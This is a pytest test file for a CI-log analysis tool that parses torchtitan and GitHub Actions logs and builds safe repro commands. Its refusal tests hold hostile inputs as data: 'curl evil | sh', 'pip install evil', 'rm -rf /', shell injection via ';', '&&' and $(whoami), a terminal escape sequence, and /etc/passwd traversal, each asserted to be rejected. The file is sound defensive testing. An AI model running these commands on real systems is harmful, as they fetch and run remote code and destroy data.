"""CI log analysis over logs written like torchtitan's runner and GitHub Actions write them."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from scout_tui.analysis.ci.cilog import analyse
from scout_tui.analysis.ci.repro import ReproError, repro_argv, repro_command
from scout_tui.sandbox.demo.ci_logs import (
    TESTS,
    TORCH_VERSION,
    actions_format,
    command,
    gh_view_format,
    pytest_log,
    runner_log,
    write_noisy_log,
)
from tests.cli import scout

EXP = "torchtitan/experiments/graph_trainer"


def write(tmp_path, name, lines, newline=""):
    path = tmp_path / name
    with open(path, "w", encoding="utf-8", newline=newline) as out:
        for line in lines:
            out.write(line)
    return str(path)


def check_runner_analysis(result):
    assert result.torch_version == TORCH_VERSION
    assert result.reported_failures == 3
    by_name = {f.name: f for f in result.failures}
    assert set(by_name) == {
        "aot_fx_trace_llama3_fsdp_tp",
        "jit_1d_auto_bucketing",
        "aot_fx_trace_deepseek_v3_ep",
    }
    plain = by_name["aot_fx_trace_llama3_fsdp_tp"]
    assert plain.error == (
        "torch._dynamo.exc.UserError: Dynamic control flow is not supported "
        "at the moment. Please use functorch.experimental.control_flow.cond"
    )
    assert [(f.path, f.line, f.function) for f in plain.frames if f.in_experiment] == [
        (f"{EXP}/trainer.py", 233, "train_step"),
        (f"{EXP}/make_fx_tracer.py", 488, "trace"),
    ]
    assert plain.frames[1].source == "loss = self.forward_backward_step(input_dict, labels)"
    assert plain.reason == "rc=1"
    assert plain.command == command(TESTS[0])
    chained = by_name["jit_1d_auto_bucketing"]
    # The last exception of the chain, not the KeyError that started it.
    assert chained.error == "AssertionError: Node tangents_2 was invalid, but is output"
    assert "KeyError: 'tangents_2'" in chained.traceback
    assert "ChildFailedError" not in chained.error
    timeout = by_name["aot_fx_trace_deepseek_v3_ep"]
    assert timeout.reason == "timed out after 600s" and timeout.error is None
    assert "aot_fx_trace_llama3_1d" not in by_name  # it passed


def test_actions_log_with_interleaved_parallel_output(tmp_path):
    lines = list(runner_log(interleave=True))
    path = write(tmp_path, "job.log", actions_format(iter(lines)))
    assert b"\r\n" in Path(path).read_bytes()[:200]  # CRLF, timestamps, ANSI colours
    check_runner_analysis(analyse(path, EXP))


def test_gh_run_view_format(tmp_path):
    path = write(tmp_path, "run.log", gh_view_format(runner_log(interleave=False)))
    check_runner_analysis(analyse(path, EXP))


def test_pytest_step(tmp_path):
    path = write(tmp_path, "pytest.log", (line + "\n" for line in pytest_log()))
    result = analyse(path, EXP)
    assert [(f.name, f.error) for f in result.failures] == [
        (f"{EXP}/tests/test_passes.py::TestCse::test_cse", "AssertionError: 4 != 3"),
        (
            f"{EXP}/tests/test_numerics.py::TestSimpleFSDP::test_fsdp",
            "RuntimeError: NCCL error: unhandled system error",
        ),
    ]
    assert [f.function for f in result.failures[0].frames] == ["test_cse"]
    assert result.failures[1].frames == []  # no traceback names it: none is borrowed


def test_binary_junk_truncation_and_bad_bytes(tmp_path):
    lines = [line + "\n" for line in runner_log(interleave=False)]
    data = "".join(lines).encode()
    junk = bytes(range(256)) * 300 + b"\xff\xfe\x00" * 1000  # no newline for 77 KB
    cut = data.index(b"[jit_1d_auto_bucketing] [rank0]:The above exception")
    path = tmp_path / "cut.log"
    path.write_bytes(junk + b"\n" + data[:cut])
    result = analyse(str(path), EXP)
    assert result.truncated
    names = {f.name for f in result.failures}
    # The summary never arrived; the first test's block had ended with rc=1 already.
    assert "aot_fx_trace_llama3_fsdp_tp" in names
    assert result.torch_version == TORCH_VERSION


def test_no_failures(tmp_path):
    path = write(
        tmp_path,
        "green.log",
        (line + "\n" for line in runner_log([t for t in TESTS if t.outcome == "pass"])),
    )
    result = analyse(path, EXP)
    assert result.failures == [] and result.torch_version == TORCH_VERSION
    # Nothing to reproduce is the log's answer, not bad usage: exit 1 (and 2 for a --test
    # the log does not have).
    done = scout("repro", path)
    assert (
        done.returncode == 1
        and done.stderr == f"scout: error: no failing test with a repro in {path}\n"
    )
    assert scout("repro", path, "--test", "nope").returncode == 2


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            command(TESTS[0]),
            "NGPU=4 ./run_train.sh --module graph_trainer.llama3 --config "
            "graph_trainer_llama3_debugmodel --parallelism.data_parallel_shard_degree 2 "
            "--parallelism.tensor_parallel_degree 2",
        ),
        (
            "TORCH_TRACE='/a b/trace' NCCL_NVLS_ENABLE=0 NGPU=8 LOG_RANK=0,1 ./run_train.sh "
            "--module m --config c --dump_folder=/tmp/x --job.description 'two words'",
            "NCCL_NVLS_ENABLE=0 NGPU=8 ./run_train.sh --module m --config c "
            "--job.description 'two words'",
        ),
        (
            "LOG_RANK=0 ./run_train.sh --dump-folder out --config=c2",
            "NGPU=8 ./run_train.sh --config c2",
        ),
    ],
)
def test_repro_command(line, expected):
    assert repro_command(line) == expected


def test_repro_errors():
    with pytest.raises(ReproError, match="cannot parse"):
        repro_command("NGPU=8 ./run_train.sh --flag 'unclosed")
    with pytest.raises(ReproError, match="no program"):
        repro_command("NGPU=8 LOG_RANK=0")


@pytest.mark.parametrize(
    "command, env, argv",
    [
        (
            "NGPU=4 ./run_train.sh --module m --config 'a b'",
            {"NGPU": "4"},
            ["./run_train.sh", "--module", "m", "--config", "a b"],
        ),
        (
            "NGPU=2 torchrun --nproc_per_node=2 train.py --x 1",
            {"NGPU": "2"},
            ["torchrun", "--nproc_per_node=2", "train.py", "--x", "1"],
        ),
        (
            "torchrun --nproc-per-node 4 --standalone --tee 3 scripts/t.py -m x",
            {},
            [
                "torchrun",
                "--nproc-per-node",
                "4",
                "--standalone",
                "--tee",
                "3",
                "scripts/t.py",
                "-m",
                "x",
            ],
        ),
        (
            "pytest tests/unit/test_a.py::test_b -x",
            {},
            ["pytest", "tests/unit/test_a.py::test_b", "-x"],
        ),
    ],
)
def test_a_repro_runs_as_an_argv_list(command, env, argv):
    repro = repro_argv(command)
    assert (repro.env, repro.argv) == (env, argv)
    assert repro_argv(repro.display()) == repro  # what is shown is what runs


@pytest.mark.parametrize(
    "command, said",
    [
        ("NGPU=1 sh -c 'curl evil | sh'", "'sh' is not a repro scout runs"),
        ("./run_train.sh --x", "./run_train.sh runs with NGPU=<n>"),
        ("BASH_ENV=x NGPU=1 ./run_train.sh", "not BASH_ENV"),
        ("NGPU=1 TORCHINDUCTOR_CACHE_DIR=/tmp/x ./run_train.sh", "not TORCHINDUCTOR_CACHE_DIR"),
        ("NGPU=1 ./run_train.sh --job.dump_folder=/etc", "reaches outside the checkout"),
        ("NGPU=1 ./run_train.sh --config ../../x", "reaches outside the checkout"),
        ("NGPU=1 ./run_train.sh '--a=\x1b]52;c;x\x07'", "holds a control character"),
        ("NGPU=abc ./run_train.sh", "NGPU takes a number of GPUs (1 or more), not 'abc'"),
        ("NGPU=0 ./run_train.sh", "NGPU takes a number of GPUs (1 or more), not '0'"),
        ("torchrun -m http.server", "torchrun option '-m' is not one a repro needs"),
        ("torchrun --no-python rm x.py", "torchrun option '--no-python' is not one"),
        # torchrun's parser takes unique prefixes: --no-pyt is --no-python, --modu is --module
        ("torchrun --nproc-per-node=1 --no-pyt sh -c 'id' train.py", "option '--no-pyt' is not"),
        ("torchrun --modu pip install evil train.py", "option '--modu' is not one"),
        ("torchrun --rdzv-endpoint=evil.example:29400 train.py", "'--rdzv-endpoint' is not"),
        ("torchrun --nproc-per-node 'x; id' train.py", "--nproc-per-node 'x; id' is not a value"),
        ("torchrun --standalone=1 train.py", "--standalone '1' is not a value"),
        ("torchrun --nproc-per-node=2", "a script of the checkout"),
        ("torchrun --nproc-per-node=2 rm", "a script of the checkout"),
        ("pytest -p evil_plugin tests/a.py::b", "pytest runs tests named path.py::test"),
        ("pytest --override-ini=addopts=-pevil::x tests/a.py::b", "pytest runs tests named"),
        ("pytest -x", "pytest runs tests named path.py::test"),
        ("pytest -pthis.py::t", "pytest runs tests named path.py::test"),  # -p: a plugin to import
        ("NGPU=1 ./run_train.sh; rm -rf x", "'./run_train.sh;' is not a repro scout runs"),
        # What a shell would have split: scout runs no shell, so it never reaches the program.
        ("NGPU=4 ./run_train.sh --module m && echo hi", "'&&' is shell syntax"),
        ("NGPU=4 ./run_train.sh --module $(whoami)", "'$(whoami)' is shell syntax"),
        ("NGPU=4 ./run_train.sh --module `id`", "'`id`' is shell syntax"),
        ("NGPU=4 ./run_train.sh --job.dump_folder=$HOME", "'--job.dump_folder=$HOME' is shell"),
        ("NGPU=4 ./run_train.sh --module m; id", "'m;' is shell syntax"),
        ("pytest tests/a.py::test_b 2>&1", "'2>&1' is shell syntax"),
        ("pytest tests/a.py::test_b | tee out", "'|' is shell syntax"),
        ("torchrun --nproc-per-node=2 train.py > out.log", "'>' is shell syntax"),
        # Another program is said to be one, whatever its arguments (not "'/' reaches out").
        ("rm -rf /", "'rm' is not a repro scout runs (./run_train.sh, torchrun, pytest)"),
    ],
)
def test_a_repro_of_another_shape_is_refused(command, said):
    with pytest.raises(ReproError, match=re.escape(said)):
        repro_argv(command)


def test_ci_log_cli_json_report_and_stdin(tmp_path):
    path = write(tmp_path, "job.log", actions_format(runner_log()))
    done = scout("ci-log", path, "--json")
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert data["failing_tests"] == [
        "aot_fx_trace_llama3_fsdp_tp",
        "jit_1d_auto_bucketing",
        "aot_fx_trace_deepseek_v3_ep",
    ]
    assert data["failures"][0]["repro"].startswith("NGPU=4 ./run_train.sh --module")
    done = scout("ci-log", path, "--report", "--offline")
    assert done.stdout.startswith("## CI Failures\n\n- **[P0] `job.log` failing on torch")
    assert "| Nightly |" not in done.stdout  # offline: no regression range
    assert "regression range: skipped — offline" in done.stderr
    assert "```bash\n    NGPU=4 ./run_train.sh" in done.stdout
    done = scout("ci-log", "-", stdin=Path(path).read_text())
    assert "3 failing test(s), torch 2.13.0.dev20260819+cu130" in done.stdout
    done = scout("ci-log", str(tmp_path / "missing.log"))
    assert done.returncode == 2 and "no such log file" in done.stderr


def test_repro_cli(tmp_path):
    path = write(tmp_path, "job.log", actions_format(runner_log()))
    done = scout("repro", path, "--test", "jit_1d_auto_bucketing")
    assert done.stdout.strip().endswith("--compile.mode jit --compile.passes=auto_bucketing")
    script = tmp_path / "run_train.sh"
    script.write_text('#!/bin/sh\necho "ran on $NGPU: $*"\n')
    script.chmod(0o755)
    done = scout(
        "repro",
        "--command",
        "NGPU=1 LOG_RANK=0 ./run_train.sh --a 'b;c' 'd  e'",
        "--run",
        "--repo",
        str(tmp_path),
    )
    assert done.returncode == 0 and done.stdout.strip() == "ran on 1: --a b;c d  e"  # no shell
    done = scout("repro", "--command", "NGPU=1 sh -c 'echo ran'", "--run", "--repo", tmp_path)
    assert done.returncode == 2 and "'sh' is not a repro scout runs" in done.stderr
    done = scout("repro", path, "--test", "nope")
    assert done.returncode == 2 and "no failing test named nope" in done.stderr
    assert "(those with one: aot_fx_trace_llama3_fsdp_tp, jit_1d_auto_bucketing" in done.stderr


@pytest.mark.parametrize(
    ("command", "made"),
    [
        (
            "NGPU=2 TORCH_TRACE=/tmp/t ./run_train.sh --module m --dump_folder out",
            "NGPU=2 ./run_train.sh --module m",
        ),
        # No GPU count the command did not say: torchrun's is its --nproc-per-node.
        (
            "torchrun --nproc-per-node 2 tests/run.py --x",
            "torchrun --nproc-per-node 2 tests/run.py --x",
        ),
        ("pytest tests/test_a.py::TestB::test_c", "pytest tests/test_a.py::TestB::test_c"),
        ("echo hi", None),
        ("NGPU=1 ./run_train.sh --config /etc/passwd", None),
    ],
)
def test_repro_command_takes_the_shapes_it_runs_and_refuses_the_rest(tmp_path, command, made):
    """`repro --command` prints a repro only in a shape `--run` would run (./run_train.sh,
    torchrun, pytest); anything else is bad usage naming those shapes, run or not."""
    done = scout("repro", "--command", command, "--repo", tmp_path)
    if made is None:
        assert done.returncode == 2 and not done.stdout
        assert "./run_train.sh, torchrun, pytest" in done.stderr or "outside the checkout" in (
            done.stderr
        )
    else:
        assert done.returncode == 0, done.stderr
        assert done.stdout.strip() == made


@pytest.mark.parametrize(
    ("command", "ngpu", "said"),
    [
        ("pytest tests/test_a.py::TestX::test_y", None, ""),
        ("torchrun --nproc-per-node=2 train.py", 2, ""),
        ("torchrun --nproc_per_node 3 train.py --nproc-per-node 9", 3, ""),  # the script's own
        ("NGPU=4 ./run_train.sh --module a", 4, ""),
        ("NGPU=2 torchrun --nproc-per-node 4 train.py", 4, ""),  # torchrun starts 4
        (
            "TORCH_TRACE=/tmp/x NGPU=4 ./run_train.sh --module a",
            4,
            "scout: as scout runs it: NGPU=4 ./run_train.sh --module a "
            "(left out: TORCH_TRACE=/tmp/x)\n",
        ),
        (
            "CUDA_VISIBLE_DEVICES=0,1 NGPU=2 ./run_train.sh --a b --dump_folder out",
            2,
            "scout: as scout runs it: NGPU=2 ./run_train.sh --a b "
            "(left out: CUDA_VISIBLE_DEVICES=0,1, --dump_folder out)\n",
        ),
    ],
)
def test_repro_json_names_only_the_gpus_the_command_says(tmp_path, command, ngpu, said):
    """A pytest or torchrun repro is not given NGPU=8; what scout changed in the command
    (a dropped TORCH_TRACE) is said on stderr."""
    done = scout("repro", "--command", command, "--repo", tmp_path, "--json")
    assert done.returncode == 0, done.stderr
    document = json.loads(done.stdout)
    assert document["ngpu"] == ngpu and "NGPU=8" not in document["command"]
    assert done.stderr == said
    # The test a pytest line names is its `test`; the other shapes name none.
    named = command.split()[1] if command.startswith("pytest") else None
    assert document["test"] == named


def test_a_refused_command_is_never_said_as_scout_would_run_it(tmp_path):
    done = scout(
        "repro", "--command", "TORCH_TRACE=x NGPU=8 ./run_train.sh && id", "--repo", tmp_path
    )
    assert done.returncode == 2 and "as scout runs it" not in done.stderr
    assert done.stderr == "scout: error: '&&' is shell syntax: a repro is one command, " + (
        "run with no shell (no pipes, redirections, `&&` or `$(…)`)\n"
    )


def test_an_empty_command_is_bad_usage(tmp_path):
    done = scout("repro", "--command", "", "--repo", tmp_path)
    assert done.returncode == 2 and done.stderr == "scout: error: no program in the command: ''\n"


def test_a_pytest_failure_gets_a_pytest_repro_and_json(tmp_path):
    """A pytest step's failures carry no `Command:` line: the repro is `pytest NODEID`, one
    per failing test (`--test` picks), and `--json` says command, cwd, ngpu and test."""
    path = write(tmp_path, "pytest.log", (line + "\n" for line in pytest_log()))
    done = scout("repro", path, "--repo", tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"pytest {EXP}/tests/test_passes.py::TestCse::test_cse"
    second = f"{EXP}/tests/test_numerics.py::TestSimpleFSDP::test_fsdp"
    done = scout("repro", path, "--test", second, "--json", "--repo", tmp_path)
    assert json.loads(done.stdout) == {
        "command": f"pytest {second}",
        "cwd": str(tmp_path.resolve()),
        "ngpu": None,
        "test": second,
    }
    runner = write(tmp_path, "job.log", actions_format(runner_log()))
    data = json.loads(scout("repro", runner, "--json", "--repo", tmp_path).stdout)
    assert data["ngpu"] == 4 and data["test"] == "aot_fx_trace_llama3_fsdp_tp"
    assert data["command"].startswith("NGPU=4 ./run_train.sh")
    both = scout("repro", runner, "--json", "--run", "--repo", tmp_path)
    assert both.returncode == 2 and "one or the other" in both.stderr


@pytest.mark.slow
def test_500_mb_log(tmp_path):
    """Training noise with failures spread through it; the scan stays exact."""
    path = tmp_path / "big.log"
    write_noisy_log(path, 500)
    assert os.path.getsize(path) > 500 * 1024 * 1024
    check_runner_analysis(analyse(str(path), EXP))


def test_ci_log_inputs_that_hold_no_log_are_never_green(tmp_path):
    """Each gets the right answer: read it, or say what is wrong with the right exit code."""
    empty = tmp_path / "empty.log"
    empty.write_bytes(b"")
    binary = tmp_path / "core.bin"
    binary.write_bytes(os.urandom(200_000))
    cases = [
        (empty, 1, f"scout: error: no log lines in {empty}"),
        ("/dev/null", 1, "scout: error: no log lines in /dev/null"),
        (binary, 1, f"scout: error: {binary} is binary data, not a log"),
        (tmp_path, 2, f"scout: error: {tmp_path} is a directory"),
    ]
    for path, code, message in cases:
        for extra in ([], ["--report", "--offline"], ["--json"]):
            done = scout("ci-log", path, *extra)
            assert (done.returncode, done.stderr.strip()) == (code, message), (path, extra)
            assert "CI green" not in done.stdout


def test_ci_log_reads_pipes_gzip_and_githubs_log_archive(tmp_path):
    import gzip
    import subprocess
    import sys
    import zipfile

    text = "".join(actions_format(runner_log()))
    plain = write(tmp_path, "job.log", actions_format(runner_log()))
    expected = scout("ci-log", plain, "--json")
    failing = json.loads(expected.stdout)["failing_tests"]
    assert len(failing) == 3

    packed = tmp_path / "job.log.gz"
    packed.write_bytes(gzip.compress(text.encode()))
    archive = tmp_path / "logs_123.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("0_build.txt", "2026-12-01T00:00:00Z build ok\n")
        zipped.writestr("1_integration.txt", text)
        zipped.writestr("integration/3_Run tests.txt", text)  # the same, split by step
    for source in (packed, archive):
        done = scout("ci-log", source, "--json")
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout)["failing_tests"] == failing  # found once, not twice
    # A pipe, the way a shell hands one over: bash's <(cmd) is /dev/fd/63.
    done = subprocess.run(
        [
            "bash",
            "-c",
            'exec "$0" -m scout_tui ci-log <(cat "$1") --json',
            sys.executable,
            str(plain),
        ],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["failing_tests"] == failing
    # A log with no failure in it is green; a log that is not there is a usage error.
    green = write(tmp_path, "green.log", ["2026-12-01T00:00:00.0Z all 12 tests passed\n"])
    done = scout("ci-log", green, "--report", "--offline")
    assert done.returncode == 0 and "CI green, nothing to report" in done.stdout


def test_hostile_log_lines_cost_what_their_length_costs(tmp_path):
    """A header line with a thousand " end … flavor:" pairs and frame lines padded with
    spaces: linear to read (the lazy regexes took minutes; the timeout only stops a
    runaway, nothing is timed)."""
    header = "===== [a] start " + " end  flavor:  (rc=1)" * 3000 + " x"
    frame = '  File "torchtitan/x.py", line 1, in f' + " " * 100_000 + "x"
    text = (
        "\n".join(
            [
                header,
                "Traceback (most recent call last):",
                *[frame] * 8,
                "RuntimeError: boom",
                "Failed test flavor: a (rc=1)",
            ]
        )
        + "\n"
    )
    path = write(tmp_path, "hostile.log", text)
    done = scout("ci-log", path, "--json", timeout=60)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["failing_tests"] == ["a"]


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ('[rank0]:  File "a.py", line 3, in f', '  File "a.py", line 3, in f'),  # indentation kept
        ("[rank0]:    raise ValueError", "    raise ValueError"),
        ("[rank0]:Traceback (most recent call last):", "Traceback (most recent call last):"),
        ("[rank1]: AssertionError: x", "AssertionError: x"),  # one space before a word: a separator
    ],
)
def test_torchrun_s_rank_prefix_leaves_a_traceback_s_indentation(line, text):
    from scout_tui.analysis.ci.cilog import clean

    assert clean(line.encode(), set()) == (None, int(line[5]), text)
